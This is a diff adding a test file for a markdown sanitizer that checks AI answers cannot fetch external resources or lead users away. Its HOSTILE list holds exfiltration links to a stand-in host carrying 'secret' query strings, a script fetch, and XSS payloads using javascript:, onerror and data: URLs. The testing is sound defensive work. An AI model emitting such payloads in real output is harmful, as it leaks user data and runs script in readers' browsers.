@@ -1,0 +1,73 @@
+import { expect, test } from 'bun:test'
+import { plainMarkdown, safeMarkdown } from './markdown'
+
+const HOSTILE = [
+  '![a](https://evil.test/p.png?q=secret)',
+  '![a][r]\n\n[r]: https://evil.test/p.png',
+  '![r]\n\n[r]: https://evil.test/p.png "t"',
+  '- [r]: https://evil.test/x\n\n[click][r]',
+  '> [r]: <https://evil.test/x>\n\n[r]',
+  '[a](https://evil.test/?q=secret)',
+  '[a](<https://evil.test/?q=secret>)',
+  '[a](\nhttps://evil.test/?q=secret)',
+  '[a](//evil.test/x)',
+  '[a](/\\evil.test)',
+  '[![a](https://evil.test/a)](https://evil.test/b)',
+  '[a\nb](https://evil.test "title")',
+  '<https://evil.test/x>',
+  'https://evil.test/x?q=secret',
+  'see HTTPS://EVIL.test/x and www.evil.test/x',
+  '(https://user:pass@evil.test/x)',
+  '<img src=x onerror=alert(1)>',
+  '<IMG SRC="https://evil.test/x">',
+  '<img\nsrc="https://evil.test/x"',
+  '<script>fetch("https://evil.test")</script>',
+  '<svg><a href="https://evil.test">x</a></svg>',
+  '<style>@import url(https://evil.test/x.css)</style>',
+  '<iframe srcdoc="<img src=https://evil.test>">',
+  '<a href=javascript:alert(1)>x</a>',
+  '[x](javascript:alert(1))',
+  '[x](JaVaScRiPt:alert(1))',
+  '[x](data:text/html;base64,PHNjcmlwdD4=)',
+  '[x](vbscript:msgbox(1))',
+  'javascript:alert(1)',
+  '<!-- https://evil.test -->',
+  '[^1]: https://evil.test',
+  '`x` ![\u200b](https://evil.test/\u200b)',
+  '[x](/meetings/7?next=https://evil.test)',
+  '[x](/meetings/8)',
+  '[x](/api/logout)',
+]
+const WRAPPED: ((text: string) => string)[] = [
+  (text) => text,
+  (text) => `**${text}**`,
+  (text) => `- one\n- ${text}`,
+  (text) => `> ${text}\n`,
+  (text) => `# ${text}\n\nand ${text}`,
+  (text) => `Fees fall [1]. ${text}`,
+]
+
+test('nothing in an answer can be fetched or leads away', () => {
+  for (const payload of HOSTILE) {
+    for (const wrap of WRAPPED) {
+      const safe = safeMarkdown(wrap(payload), new Set([7]))
+      expect(safe).not.toMatch(/!\[[^\]]*\]\s?[[(]/)
+      expect(safe).not.toMatch(/\]\((?!\/meetings\/7\))/)
+      expect(safe).not.toMatch(/^[\s>*+-]*\[[^\]]+\]:/m)
+      expect(safe).not.toMatch(/<[a-z/!]/i)
+      expect(safe).not.toMatch(/[a-z]:\/\/|www\./i)
+      expect(safe).not.toMatch(/(?:javascript|vbscript|data):\S/i)
+    }
+  }
+})
+
+test('headings, lists, quotes, citations and links to own meetings stay', () => {
+  const text = '## Fees\n\n- **Two** points [1]\n- x < 3 [2]\n\n> said so\n\n[Review](/meetings/7)'
+  expect(safeMarkdown(text, new Set([7]))).toBe(text.replace('x < 3', 'x &lt; 3'))
+})
+
+test('words of others are shown letter by letter', () => {
+  expect(plainMarkdown('**bold** [x](https://evil.test/a) <b>')).toBe(
+    '\\*\\*bold\\*\\* \\[x\\](evil.test) &lt;b\\>',
+  )
+})
